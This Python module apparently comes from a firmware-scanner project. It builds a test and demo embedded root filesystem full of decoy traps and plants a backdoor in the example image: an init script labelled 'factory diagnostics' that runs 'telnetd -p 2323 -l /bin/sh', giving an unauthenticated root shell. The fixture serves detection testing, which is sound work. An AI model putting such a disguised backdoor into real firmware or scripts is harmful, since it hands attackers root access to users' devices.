"""A small, real embedded root filesystem built from this machine's Debian packages.

Used by ``nospy demo``, the examples build script, the tests and the accuracy benchmark: BusyBox
(``busybox-static``, with its applet links), Dropbear (``dropbear-bin``), ``ssh-keygen``
(``openssh-client``) and ``openssl`` with the shared libraries they load, a BusyBox inittab and
init scripts, and clean accounts. It is full of the traps a naive scanner falls into: BusyBox's
help texts, a commented-out telnetd line, the system CA bundle, documentation that talks about
passwords, public keys and certificates, locked system accounts.

Files are hard-linked from a cached base when possible, so a corpus of many images stays cheap;
`plant` replaces a file (never writes through a shared link).
"""

from __future__ import annotations

import os
import secrets
import shutil
import subprocess
from pathlib import Path

from nospy.errors import InputError
from nospy.firmware.crack import crypt_hash

__all__ = ["EXAMPLE_BACKDOOR", "HOST_PROGRAMS", "build_base", "build_example", "clone", "plant"]

# (path on this machine, path in the image, Debian package)
HOST_PROGRAMS = (
    ("/bin/busybox", "/bin/busybox", "busybox-static"),
    ("/usr/sbin/dropbear", "/usr/sbin/dropbear", "dropbear-bin"),
    ("/usr/bin/dropbearkey", "/usr/bin/dropbearkey", "dropbear-bin"),
    ("/usr/bin/ssh-keygen", "/usr/bin/ssh-keygen", "openssh-client"),
    ("/usr/bin/openssl", "/usr/bin/openssl", "openssl"),
)

_SALT = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def _root_hash() -> str:
    """md5crypt of a random password: a real hash that no default list cracks.

    md5crypt, as most BusyBox devices still use, keeps cracking a corpus of many images fast.
    """
    return crypt_hash(secrets.token_urlsafe(16), "$1$" + "".join(secrets.choice(_SALT) for _ in range(8)))


_FILES = {
    "/etc/passwd": (
        "root:x:0:0:root:/root:/bin/sh\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "bin:x:2:2:bin:/bin:/bin/false\n"
        "sshd:x:22:22:sshd:/var/empty:/sbin/nologin\n"
        "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
    ),
    "/etc/group": "root:x:0:\ndaemon:x:1:\nbin:x:2:\nsshd:x:22:\nnogroup:x:65534:\n",
    "/etc/inittab": (
        "# /etc/inittab for BusyBox init\n"
        "::sysinit:/etc/init.d/rcS\n"
        "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
        "::ctrlaltdel:/sbin/reboot\n"
        "::shutdown:/bin/umount -a -r\n"
    ),
    "/etc/init.d/rcS": (
        "#!/bin/sh\n"
        "mount -t proc proc /proc\n"
        "# debugging only, never enabled in production:\n"
        "# telnetd -l /bin/sh -p 2323\n"
        "for s in /etc/init.d/S??*; do\n"
        '    [ -x "$s" ] && "$s" start\n'
        "done\n"
    ),
    "/etc/init.d/S50dropbear": (
        "#!/bin/sh\n"
        "PORT=22\n"
        'case "$1" in\n'
        "start)\n"
        "    KEY=/etc/dropbear/dropbear_ed25519_host_key\n"
        "    [ -f $KEY ] || dropbearkey -t ed25519 -f $KEY\n"
        "    /usr/sbin/dropbear -R -s -p $PORT\n"
        "    ;;\n"
        "stop)\n"
        "    killall dropbear\n"
        "    ;;\n"
        "esac\n"
    ),
    "/etc/init.d/S60httpd": (
        '#!/bin/sh\necho "starting web server (default login is set on first boot)"\nhttpd -p 80 -h /www\n'
    ),
    "/etc/inetd.conf": (
        "# telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n"
        "# ftp stream tcp nowait root /usr/sbin/ftpd ftpd -w\n"
    ),
    "/etc/hostname": "rx200\n",
    "/etc/services": "ssh\t\t22/tcp\ntelnet\t\t23/tcp\nhttp\t\t80/tcp\nftp\t\t21/tcp\ntftp\t\t69/udp\n",
    "/etc/profile": 'export PATH=/bin:/sbin:/usr/bin:/usr/sbin\nPS1="\\u@\\h:\\w\\$ "\n',
    "/www/index.html": (
        "<html><body><form method=post action=/cgi-bin/login>"
        '<input type="password" name="password" placeholder="password">'
        "</form></body></html>\n"
    ),
    "/usr/share/doc/rx200/README": (
        "RX200 administrator guide\n\n"
        "Log in with the password printed on the label. Never ship a build with password=admin\n"
        "or with telnetd -l /bin/sh in an init script: both are backdoors.\n"
        "Example: curl -u user:password https://update.example.com/firmware\n"
        "Documentation servers: 192.0.2.10, 198.51.100.7, http://www.example.com/rx200\n"
    ),
    "/etc/ssl/openssl.cnf": "# password = for PKCS#12 export is asked interactively\n[ req ]\ndefault_bits = 2048\n",
    "/etc/dropbear/README": "Host keys are generated on first boot: none ship in the image.\n",
}


def _libraries(program: str) -> list[str]:
    """The shared libraries ``program`` loads, from ldd (glibc's own resolver)."""
    try:
        out = subprocess.run(["ldd", program], capture_output=True, text=True, check=False, timeout=30).stdout
    except (OSError, subprocess.TimeoutExpired):
        return []
    libs = []
    for line in out.splitlines():
        parts = line.split()
        path = (
            parts[2] if "=>" in parts and len(parts) > 2 else parts[0] if parts and parts[0].startswith("/") else None
        )
        if path and path.startswith("/"):
            libs.append(path)
    return libs


def _copy(src: str, root: Path, dest: str) -> None:
    target = root / dest.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if not target.exists():
        shutil.copy2(os.path.realpath(src), target)


def build_base(root: Path) -> Path:
    """Build the clean base image into ``root`` (an empty or missing folder)."""
    missing = [pkg for src, _, pkg in HOST_PROGRAMS if not Path(src).is_file()]
    if missing:
        raise InputError(
            f"Debian packages needed to build the example root filesystem: {' '.join(sorted(set(missing)))}"
        )
    for d in (
        "bin",
        "sbin",
        "usr/bin",
        "usr/sbin",
        "lib",
        "root",
        "tmp",
        "var/run",
        "dev",
        "proc",
        "www",
        "etc/dropbear",
    ):
        (root / d).mkdir(parents=True, exist_ok=True)
    for src, dest, _ in HOST_PROGRAMS:
        _copy(src, root, dest)
        for lib in _libraries(src):
            _copy(lib, root, lib)
    applets = subprocess.run(["/bin/busybox", "--list-full"], capture_output=True, text=True, check=True).stdout.split()
    for applet in applets:
        link = root / applet
        if link.exists() or link.is_symlink():
            continue
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(os.path.relpath("/bin/busybox", Path("/" + applet).parent))
    ca = Path("/etc/ssl/certs/ca-certificates.crt")
    if ca.is_file():
        _copy(str(ca), root, "/etc/ssl/certs/ca-certificates.crt")
    for path, text in _FILES.items():
        plant(root, path, text)
    shadow = f"root:{_root_hash()}:19000:0:99999:7:::\ndaemon:*:19000::::::\nbin:*:19000::::::\n"
    plant(root, "/etc/shadow", shadow + "sshd:!:19000::::::\nnobody:!!:19000::::::\n", 0o600)
    for script in ("/etc/init.d/rcS", "/etc/init.d/S50dropbear", "/etc/init.d/S60httpd"):
        (root / script.lstrip("/")).chmod(0o755)
    return root


# The example image's planted backdoor: a "diagnostics" script that opens a root shell on TCP 2323.
EXAMPLE_BACKDOOR = "/etc/init.d/S90diag"


def build_example(root: Path) -> Path:
    """The bundled example (ACME RX200): the clean base with an admin account and one planted backdoor."""
    build_base(root)
    plant(root, "/etc/init.d/S60httpd", "#!/bin/sh\n# the web interface ships in a later release\n", 0o755)
    passwd = (
        (root / "etc/passwd")
        .read_text()
        .replace("root:x:0:0:root:/root:/bin/sh", "root:x:0:0:root:/root:/sbin/nologin")
    )
    plant(root, "/etc/passwd", passwd + "admin:x:1000:1000:admin:/home/admin:/bin/sh\n")
    shadow = (root / "etc/shadow").read_text()
    admin = shadow.splitlines()[0].split(":")[1]  # the random strong hash the base gave root
    plant(root, "/etc/shadow", shadow.replace(admin, "!") + f"admin:{admin}:19000:0:99999:7:::\n", 0o600)
    plant(
        root,
        EXAMPLE_BACKDOOR,
        "#!/bin/sh\n# factory diagnostics\ntelnetd -p 2323 -l /bin/sh &\n",
        0o755,
    )
    return root


def clone(base: Path, root: Path) -> Path:
    """A copy of ``base`` at ``root`` whose regular files are hard links (cheap; `plant` unlinks first)."""

    def link(src: str, dst: str) -> None:
        os.link(src, dst)

    shutil.copytree(base, root, symlinks=True, copy_function=link)
    return root


def plant(root: Path, path: str, content: str | bytes, mode: int = 0o644) -> Path:
    """Write ``content`` at device path ``path`` in the image at ``root`` (replacing, never writing through)."""
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if target.exists() or target.is_symlink():
        target.unlink()
    target.write_bytes(content.encode() if isinstance(content, str) else content)
    target.chmod(mode)
    return target
